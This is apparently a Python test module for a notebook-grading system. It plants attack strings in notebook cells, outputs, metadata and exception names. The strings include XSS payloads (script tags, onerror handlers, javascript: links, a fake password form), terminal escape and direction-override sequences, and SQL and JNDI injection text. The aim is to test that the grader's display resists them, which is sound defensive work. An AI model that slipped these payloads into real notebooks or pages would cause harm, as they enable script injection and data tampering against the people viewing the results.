"""Attacks on whoever looks at the result: scripts, links, escapes in outputs, prose, metadata and names."""
from .registry import attack

SCRIPT = "<script>alert('ALIVE')</script>"
LIVE = (SCRIPT, "<img src=x onerror=alert('ALIVE')>", "<svg onload=alert('ALIVE')>", "<iframe src='javascript:alert(1)'></iframe>",
        "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "![x](javascript:alert(1))",
        "$\\href{javascript:alert(1)}{x}$", "$\\unicode{<img src=x onerror=alert(1)>}$", "<style>*{display:none}</style>",
        "<form action='https://example.invalid'><input name=password></form>", "<base href='https://example.invalid'>", "<math><maction xlink:href='javascript:alert(1)'>",
        "<object data='data:text/html;base64,PHNjcmlwdD4='></object>", "<meta http-equiv=refresh content='0;url=https://example.invalid'>",
        "```html\n</code></pre><script>alert('ALIVE')</script>\n```", "<!-- --><script>alert('ALIVE')</script>", "<details open ontoggle=alert(1)>")


@attack("scripts in displayed HTML, JavaScript, SVG and LaTeX")
def live_displays(s):
    s.extra(f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display, IFrame
for text in {LIVE!r}:
    display(HTML(text), Markdown(text), Latex(text))
    display(Javascript("alert('ALIVE')"))
    display(IFrame("javascript:alert(1)", 10, 10))
    display({{"text/html": text, "image/svg+xml": text, "application/javascript": text, "text/plain": text, "application/vnd.jupyter.widget-view+json": text}}, raw=True)
""")


@attack("pictures that are none: a script called image/png, an SVG called image/jpeg")
def false_pictures(s):
    s.extra(f"""
import base64
from IPython.display import display
for text in {LIVE[:4]!r}:
    display({{"image/png": text, "image/jpeg": base64.b64encode(text.encode()).decode(), "text/plain": "x"}}, raw=True)
    display({{"image/png": "iVBORw0KGgo=" + text, "text/plain": "x"}}, raw=True)
    display({{"image/png": '" onerror="alert(1)', "text/plain": "x"}}, metadata={{"image/png": {{"width": '1" onload="alert(1)'}}}}, raw=True)
""")


@attack("scripts in markdown and raw cells")
def live_prose(s):
    for text in LIVE:
        s.extra(text, kind="markdown")
        s.extra(text, kind="raw", metadata={"format": "text/html"})


@attack("scripts in attachments, in metadata of cells and of the notebook")
def live_metadata(s):
    s.extra("![x](attachment:x.svg)", kind="markdown", attachments={"x.svg": {"image/svg+xml": SCRIPT}})
    s.extra("1", metadata={"tags": [SCRIPT], "name": SCRIPT, "scrolled": SCRIPT, "collapsed": SCRIPT})
    s.notebook["metadata"] |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPT}}}}
    s.notebook["metadata"]["language_info"] = {"name": SCRIPT, "pygments_lexer": SCRIPT, "codemirror_mode": SCRIPT}


@attack("terminal escapes and direction marks in outputs, errors and names")
def terminal_escapes(s):
    s.extra(r"""
import sys
text = "ALIVE \x1b[2J\x1b]0;title\x07\x1b]8;;https://example.invalid\x1b\\link\x1b]8;;\x1b\\ \x9b2J \u202etxet\u2066 \r\b\b"
print(text)
print(text, file=sys.stderr)
display(text)
raise type(text, (Exception,), {})(text)
""")


@attack("an exception class whose name is a script, raised by an answer cell that then defines nothing")
def live_error_name(s):
    s.answer("threshold_prune", f'raise type("ALIVE{SCRIPT}", (Exception,), {{}})("{SCRIPT}")')
    s.answer("magnitude_mask", f'raise type("ALIVE[red]\\x1b[31m{{7*7}}", (Exception,), {{}})')


@attack("rich markup, format fields and SQL in names and messages")
def templates(s):
    s.extra('raise type("ALIVE[bold red]{0.__class__}%s\'; DROP TABLE grade; --", (Exception,), {})("[/]{{7*7}}${jndi:ldap://x}")')


@attack("outputs stored in the submitted notebook: scripts that were never run")
def stored_outputs(s):
    for cell in s.cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": {"text/html": SCRIPT, "application/javascript": "alert('ALIVE')"}, "metadata": {"ALIVE": SCRIPT}},
                               {"output_type": "stream", "name": SCRIPT, "text": "ALIVE" + SCRIPT}]


@attack("scripts in an answer's source, its comments and its strings")
def live_source(s):
    s.answer("threshold_prune", f"# {SCRIPT}\n# </pre></div>{SCRIPT}\ndef threshold_prune(w, t):\n    '''{SCRIPT} $\\href{{javascript:alert(1)}}{{x}}$'''\n    return w, w")
